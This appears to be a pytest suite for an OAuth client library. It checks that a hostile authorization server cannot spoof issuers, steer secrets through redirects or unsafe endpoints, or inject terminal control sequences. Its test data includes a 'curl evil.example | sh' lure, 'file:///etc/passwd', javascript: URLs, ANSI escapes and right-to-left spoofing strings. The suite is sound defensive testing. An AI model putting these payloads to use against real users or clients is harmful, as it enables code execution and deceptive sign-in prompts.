"""An authorization server that means ill, or somebody who speaks for one: metadata and answers."""

from collections.abc import Iterator

import pytest
from click.testing import CliRunner

from counterfoil.cli.program import program
from counterfoil.client import Client, ClientKey, HttpFailure, Refused
from counterfoil.jose import jwt
from counterfoil.jose.keys import PrivateKey
from tests.attacks.hostile import Hostile, hostile

pytestmark = pytest.mark.one_engine("no server of ours is there")

DEVICE = {
    "device_code": "d",
    "user_code": "BCDF-GHJK",
    "verification_uri": "https://id.example/device",
    "expires_in": 600,
}


@pytest.fixture
def server() -> Iterator[Hostile]:
    with hostile() as it:
        it.publish()
        yield it


@pytest.mark.parametrize("claimed", ["https://id.example", "", "http://127.0.0.1:1", None])
def test_one_issuer_cannot_speak_for_another(server: Hostile, claimed: object):
    """RFC 8414 §3.3: else secrets and codes of one would go to the other."""
    server.publish(issuer=claimed)
    with Client(server.url, "app", "s3cret") as client:
        with pytest.raises(HttpFailure):
            client.client_credentials()
        with pytest.raises(HttpFailure):
            client.begin("openid")
    assert not [body for _, headers, body in server.asked if body or "authorization" in headers]


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://id.example/token",
        "ftp://id.example/token",
        "//id.example/token",
        "https://u:p@id.example/token",
        "https://id.example/token#x",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://",
    ],
)
def test_no_endpoint_is_called_that_could_be_listened_to(server: Hostile, endpoint: str):
    """https, or this machine; nothing that a reader and a program would take for two places."""
    server.publish(token_endpoint=endpoint, authorization_endpoint=endpoint)
    with Client(server.url, "app", "s3cret") as client:
        with pytest.raises(HttpFailure, match="token_endpoint"):
            client.client_credentials()
        with pytest.raises(HttpFailure, match="authorization_endpoint"):
            client.begin("openid")


@pytest.mark.parametrize("text", ["\x1b[2J", "\u202egpj.exe", " rm -rf", "\x7f", "\u00fc"])
def test_a_page_that_would_steer_the_terminal_is_not_told(server: Hostile, text: str):
    """Programs print the address of the sign-in as it is."""
    server.publish(authorization_endpoint=f"https://id.example/{text}")
    with Client(server.url, "app") as client, pytest.raises(HttpFailure, match="authorization"):
        client.begin("openid")


def test_endpoints_of_another_origin_are_the_issuer_s_affair(server: Hostile):
    """RFC 8414 §2: what the issuer's own metadata names is trusted as the issuer is."""
    with hostile() as elsewhere:
        elsewhere.say("/token", {"access_token": "a", "token_type": "Bearer"})
        server.publish(token_endpoint=f"{elsewhere.url}/token")
        with Client(server.url, "app", "s3cret") as client:
            assert client.client_credentials().access_token == "a"


def test_a_redirect_takes_no_secret_along(server: Hostile):
    """Of no endpoint: neither metadata nor a token request is followed anywhere."""
    with hostile() as thief:
        thief.publish()
        thief.say("/token", {"access_token": "a", "token_type": "Bearer"})
        for path in ("/token", "/.well-known/openid-configuration"):
            server.say(path, {}, 307, Location=f"{thief.url}{path}")
            with Client(server.url, "app", "s3cret") as client, pytest.raises(HttpFailure):
                client.client_credentials()
        assert thief.asked == []


def test_an_assertion_that_was_lured_elsewhere_is_worth_nothing_there(server: Hostile):
    """rfc7523bis: its audience is the issuer that was asked, whatever endpoint it went to."""
    with hostile() as thief:
        server.publish(token_endpoint=f"{thief.url}/token")
        key = ClientKey(PrivateKey.generate())
        with Client(server.url, "app", key) as client, pytest.raises(HttpFailure):
            client.client_credentials()
        (_, headers, body), *_ = thief.asked
        assertion = dict(pair.split("=") for pair in body.split("&"))["client_assertion"]
        assert jwt.unverified_claims(assertion)["aud"] == server.url
        assert "authorization" not in headers


@pytest.mark.parametrize(
    "changed",
    [
        {"verification_uri": "https://id.example/\x1b]0;owned\x07"},
        {"verification_uri": "https://id.example/\nRun: curl evil.example | sh"},
        {"verification_uri": "https://id.example/\u202egpj.exe"},
        {"verification_uri": "http://id.example/device"},
        {"verification_uri": "javascript:alert(1)"},
        {"verification_uri": "https://id.example@evil.example/"},
        {"verification_uri": "file:///etc/passwd"},
        {"verification_uri": "https://id.example/a b"},
        {"verification_uri_complete": "https://id.example/\x1b[2J"},
        {"verification_uri_complete": "http://id.example/"},
        {"user_code": "ABCD\x1b[31m"},
        {"user_code": "ABCD\r\nEFGH"},
        {"user_code": "\u202eABCD"},
        {"user_code": "A" * 1000},
    ],
)
def test_a_device_sign_in_that_would_steer_the_terminal_is_not_shown(
    server: Hostile, changed: dict[str, str], tmp_path: object
):
    """RFC 8628 §5.4: control characters, spellings that lie, and addresses that run something."""
    server.say("/device", DEVICE | changed)
    arguments = ["login", server.url, "--client-id", "cli", "--device"]
    result = CliRunner().invoke(program, arguments, env={"XDG_STATE_HOME": str(tmp_path)})
    assert result.exit_code == 1
    assert "device authorization response" in result.stderr
    said = result.stdout + result.stderr
    assert all(character.isprintable() or character == "\n" for character in said)
    assert result.stderr.count("\n") == 1
    assert "/token" not in server.paths


def test_what_a_refusal_says_steers_no_terminal(server: Hostile, tmp_path: object):
    server.say("/device", {"error": "invalid_client", "error_description": "\x1b[2J\nno"}, 400)
    arguments = ["login", server.url, "--client-id", "cli", "--device"]
    result = CliRunner().invoke(program, arguments, env={"XDG_STATE_HOME": str(tmp_path)})
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr
    assert result.stderr.count("\n") == 1


def test_a_server_cannot_have_a_device_ask_without_pause(server: Hostile):
    """An interval of nothing would make the client a flood; an endless one ends with the code."""
    server.say("/device", DEVICE | {"interval": 0, "expires_in": 1})
    server.say("/token", {"error": "authorization_pending"}, 400)
    with Client(server.url, "cli") as client:
        device = client.begin_device("openid")
        assert device.interval >= 1
        with pytest.raises(Refused, match="expired_token"):
            client.finish_device(device)
    assert server.paths.count("/token") <= 1


@pytest.mark.parametrize("expires_in", [-(10**400), -1, 0, 10**30, 10**400])
def test_a_life_beyond_reason_makes_nothing_fail(server: Hostile, expires_in: int):
    said = {"access_token": "a", "token_type": "Bearer", "expires_in": expires_in}
    server.say("/token", said)
    with Client(server.url, "app", "s3cret") as client:
        assert client.service().access_token() == "a"
        server.say("/device", DEVICE | {"expires_in": expires_in})
        assert client.begin_device("openid").expires_at
